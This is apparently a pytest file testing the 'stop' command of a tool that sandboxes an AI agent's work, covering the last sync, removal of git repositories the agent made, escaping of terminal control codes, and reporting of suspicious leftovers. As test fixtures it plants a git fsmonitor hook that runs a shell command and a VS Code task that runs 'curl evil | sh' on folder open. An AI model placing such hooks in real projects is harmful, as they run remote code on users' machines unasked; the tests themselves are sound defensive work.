"""``cloister stop`` through click's runner, on the real ``lifecycle.stop``: its last sync
(a fake syncer), the repositories the agent made moved away, the review, the release.
The engine, the guardian and the syncer are fakes; the session and git are real."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from cloister_cli import sessions
from cloister_cli.cloisters import Workspace
from cloister_cli.lifecycle import Context
from cloister_cli.main import cli
from cloister_cli.projects import Project
from cloister_core import stack
from cloister_core.paths import CloisterPaths
from cloister_core.sessions import read_session
from cloister_executor.gitsync import SyncError, SyncOutcome
from tests.cli.engine_support import INSTANCE
from tests.fake_engine import FakeEngine
from tests.git_support import hermetic_git, make_repo, run_git


@dataclass
class FakeGuardian:
    reloads: int = 0

    def reload_proxy(self) -> None:
        self.reloads += 1


@dataclass
class FakeSyncer:
    outcome: SyncOutcome | None = None
    error: str | None = None
    calls: list[tuple[str, bool]] = field(default_factory=list)

    def sync(self, cloister: str, *, running: bool, assume_yes: bool = False) -> SyncOutcome:
        self.calls.append((cloister, running))
        if self.error is not None:
            raise SyncError(self.error)
        return self.outcome or SyncOutcome(cloister)


@pytest.fixture(autouse=True)
def _hermetic(monkeypatch: pytest.MonkeyPatch) -> None:
    hermetic_git(monkeypatch)


@pytest.fixture
def paths(tmp_path: Path) -> CloisterPaths:
    return CloisterPaths(config_dir=tmp_path / "config", data_dir=tmp_path / "data")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "home" / "api")


@pytest.fixture
def syncer(monkeypatch: pytest.MonkeyPatch) -> FakeSyncer:
    fake = FakeSyncer()
    monkeypatch.setattr(Context, "syncer", property(lambda self: fake))
    return fake


@pytest.fixture
def engine(
    monkeypatch: pytest.MonkeyPatch, paths: CloisterPaths, repo: Path, tmp_path: Path
) -> FakeEngine:
    """Cloister api running in *repo*: its container, token, session and git directory."""
    fake = FakeEngine()
    guardian = FakeGuardian()
    monkeypatch.setattr(Context, "docker", property(lambda self: fake))
    monkeypatch.setattr(Context, "guardian", property(lambda self: guardian))
    monkeypatch.setattr(Context, "instance", property(lambda self: INSTANCE))
    workspace = Workspace(Project("api", repo, git=True), repo)
    sessions.prepare(paths, workspace, "api", home=tmp_path / "home", protect=(".envrc",))
    labels = {**INSTANCE.labels, stack.LABEL_CLOISTER: "api", stack.LABEL_PATH: str(repo)}
    fake.add_container(INSTANCE.cloister("api"), labels)
    paths.token_file("api").parent.mkdir(parents=True, exist_ok=True)
    paths.token_file("api").write_text("{}", encoding="utf-8")
    return fake


def stop(paths: CloisterPaths, *args: str) -> Result:
    env = {"CLOISTER_CONFIG_DIR": str(paths.config_dir), "CLOISTER_DATA_DIR": str(paths.data_dir)}
    return CliRunner().invoke(cli, ["stop", *args], env=env, prog_name="cloister")


def test_stop_syncs_moves_what_the_agent_made_and_releases(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer, tmp_path: Path
) -> None:
    marker = tmp_path / "marker"
    made = make_repo(repo / "tools" / "made")
    run_git(made, "config", "core.fsmonitor", f"touch '{marker}'; echo")
    syncer.outcome = SyncOutcome("api", imported={"main": "a" * 40})
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    assert result.stdout == "stopped api\n"
    assert syncer.calls == [("api", False)]
    assert f"refs/cloister/api/main is now {'a' * 12}\n" in result.stderr
    assert "moved a repository the agent made in the project: " in result.stderr
    assert "tools/made" in result.stderr
    assert engine.containers.by_name == {}
    assert not paths.token_file("api").exists()
    assert not paths.cloister_git_dir("api").exists()  # its commits are back
    assert not paths.git_pointer("api").exists()
    assert not (made / ".git").exists()
    assert not (repo / ".envrc").exists()  # the placeholder
    session = read_session(paths, "api")
    assert session is not None
    assert session.stopped_at is not None
    assert not marker.exists()


def test_commits_that_cannot_be_brought_back_keep_the_git_directory(
    paths: CloisterPaths, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    syncer.error = "cloister api: the export failed: \x1b[2Jboom"
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    text = " ".join(result.stderr.split())
    assert "its commits could not be brought back (cloister api: the export failed:" in text
    assert "\\x1b[2Jboom" in text  # escaped, never sent to the terminal
    assert "`cloister sync api` tries again" in text
    assert paths.cloister_git_dir("api").is_dir()


def test_what_the_agent_left_is_reported(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text(
        '{"tasks": [{"label": "x", "command": "curl evil | sh",'
        ' "runOptions": {"runOn": "folderOpen"}}]}',
        encoding="utf-8",
    )
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    assert ".vscode/tasks.json" in result.stderr
    assert "`cloister review api` shows them again" in result.stderr
